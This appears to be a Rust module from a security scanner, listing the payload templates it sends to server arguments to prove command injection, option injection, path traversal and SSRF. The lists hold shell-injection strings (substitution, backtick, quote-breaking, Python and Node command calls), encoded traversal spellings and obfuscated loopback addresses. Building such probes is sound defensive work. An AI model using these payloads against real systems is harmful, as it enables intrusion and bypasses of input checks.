//! The values that are sent. `{…}` are places that the prober fills in; the unfilled text is what reports show.

use super::arguments::Argument;
use crate::scan::{Rule, Severity, active};

/// What proves an attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Proof {
    /// A marker file appeared, or the result of a calculation came back.
    Ran,
    /// A marker file appeared.
    Made,
    /// The content of a planted file came back, or the file was changed.
    Touched,
    /// The canary on loopback received a request.
    Reached,
}

/// One attack.
#[derive(Debug)]
pub struct Attack {
    /// The rule that it proves.
    pub rule: &'static Rule,
    /// How bad it is.
    pub severity: Severity,
    /// Its name in reports.
    pub id: &'static str,
    /// The value, with places.
    pub template: &'static str,
    /// What proves it.
    pub proof: Proof,
}

impl Attack {
    /// The value with its places filled in.
    pub fn filled(&self, places: &[(&str, &str)]) -> String {
        places.iter().fold(self.template.to_owned(), |text, (name, value)| text.replace(name, value))
    }
}

/// The id of an attack by which a server that refuses nothing is told from one whose check is evaded.
pub const PLAIN: &str = "plain";

/// What the prober has.
#[derive(Clone, Copy, Debug, Default)]
pub struct Supplies {
    /// Files planted in the folder that the server serves, and around it.
    pub folder: bool,
    /// A canary on `[::1]`.
    pub v6: bool,
    /// A site that the server may fetch.
    pub site: bool,
}

/// Attacks on one argument, in order: after the first proof of a rule the others of that rule are left out.
pub fn attacks(argument: &Argument, supplies: Supplies) -> Vec<&'static Attack> {
    let mut all: Vec<&'static Attack> = Vec::new();
    if argument.runs {
        all.extend(RUN);
    }
    all.extend(COMMANDS);
    all.extend(OPTIONS);
    if supplies.folder && (argument.is_path || !argument.is_url) {
        // Every spelling only where a path is expected.
        all.extend(PATHS.iter().filter(|one| argument.is_path || ["dots", "absolute"].contains(&one.id)));
    }
    if argument.is_url || !argument.is_path {
        let suits = |one: &&Attack| match one.id {
            PLAIN => true,
            // Every spelling only where an address is expected.
            _ if !argument.is_url => false,
            "ipv6" => supplies.v6,
            "redirect" => supplies.site,
            _ => true,
        };
        all.extend(ADDRESSES.iter().filter(suits));
    }
    all
}

/// Attacks on the last part of a resource's URI.
pub fn on_resources() -> impl Iterator<Item = &'static Attack> {
    PATHS.iter().filter(|one| !one.template.contains("file://"))
}

const fn runs(id: &'static str, template: &'static str) -> Attack {
    Attack { rule: &active::COMMANDS, severity: Severity::High, id, template, proof: Proof::Ran }
}

const fn option(id: &'static str, template: &'static str) -> Attack {
    Attack { rule: &active::OPTIONS, severity: Severity::High, id, template, proof: Proof::Made }
}

const fn path(id: &'static str, template: &'static str) -> Attack {
    Attack { rule: &active::TRAVERSAL, severity: Severity::High, id, template, proof: Proof::Touched }
}

const fn address(id: &'static str, template: &'static str) -> Attack {
    Attack { rule: &active::SSRF, severity: Severity::High, id, template, proof: Proof::Reached }
}

/// A tool that runs commands does what it says: worth knowing, no weakness.
const RUN: &[Attack] = &[Attack {
    rule: &active::SHELL,
    severity: Severity::Info,
    id: PLAIN,
    template: "touch {marker}",
    proof: Proof::Made,
}];

const COMMANDS: &[Attack] = &[
    runs("substitution", "$(touch {marker}; echo {sum})"),
    runs("backtick", "`touch {marker}; echo {sum}`"),
    runs("semicolon", "x; touch {marker}; echo {sum} #"),
    runs("pipe", "x | touch {marker} #"),
    runs("double-quote", "x\"; touch {marker}; echo {sum}; echo \""),
    runs("single-quote", "x'; touch {marker}; echo {sum}; echo '"),
    runs("newline", "x\ntouch {marker}; echo {sum}\n"),
    runs("quoted-newline", "x\"\ntouch {marker}; echo {sum}\n: \""),
    runs("python", "__import__('os').system('touch {marker}')"),
    runs("javascript", "process.getBuiltinModule('child_process').execSync('touch {marker}')"),
];

const OPTIONS: &[Attack] = &[option("long-option", "--output={marker}"), option("short-option", "-o{marker}")];

const PATHS: &[Attack] = &[
    path("dots", "../{canary}"),
    path("dots-inside", "x/../../{canary}"),
    path("dots-doubled", "....//{canary}"),
    path("dots-after-folder", "{folder}/../{canary}"),
    path("absolute", "{parent}/{canary}"),
    path("file-url", "file://{parent}/{canary}"),
    path("encoded-dots", "%2e%2e%2f{canary}"),
    path("encoded-slash", "..%2f{canary}"),
    path("mixed-dots", ".%2e/{canary}"),
    path("encoded-twice", "%252e%252e%252f{canary}"),
    path("nul", "../{canary}\0.txt"),
    path("backslash", "..\\{canary}"),
    path("prefix", "../{sibling}/{canary}"),
    path("prefix-absolute", "{folder}-{sibling-end}/{canary}"),
    Attack {
        rule: &active::TRAVERSAL,
        severity: Severity::Medium,
        id: "link",
        template: "{link}",
        proof: Proof::Touched,
    },
    Attack {
        rule: &active::TRAVERSAL,
        severity: Severity::Medium,
        id: "link-absolute",
        template: "{folder}/{link}",
        proof: Proof::Touched,
    },
];

const ADDRESSES: &[Attack] = &[
    // Nothing is refused: the server fetches whatever it is told to.
    Attack {
        rule: &active::SSRF,
        severity: Severity::Medium,
        id: PLAIN,
        template: "http://127.0.0.1:{port}/{token}",
        proof: Proof::Reached,
    },
    address("host-name", "http://localhost:{port}/{token}"),
    address("decimal", "http://2130706433:{port}/{token}"),
    address("hexadecimal", "http://0x7f000001:{port}/{token}"),
    address("octal", "http://0177.0.0.1:{port}/{token}"),
    address("short", "http://127.1:{port}/{token}"),
    address("zero", "http://0.0.0.0:{port}/{token}"),
    address("full-width", "http://１２７.0.0.1:{port}/{token}"),
    address("ipv6", "http://[::1]:{port}/{token}"),
    address("ipv4-in-ipv6", "http://[::ffff:127.0.0.1]:{port}/{token}"),
    address("user-name", "http://example.com@127.0.0.1:{port}/{token}"),
    // An argument that takes hosts alone has refused nothing yet.
    Attack {
        rule: &active::SSRF,
        severity: Severity::Medium,
        id: "no-scheme",
        template: "127.0.0.1:{port}/{token}",
        proof: Proof::Reached,
    },
    address("redirect", "{site}/redirect/{token}"),
];
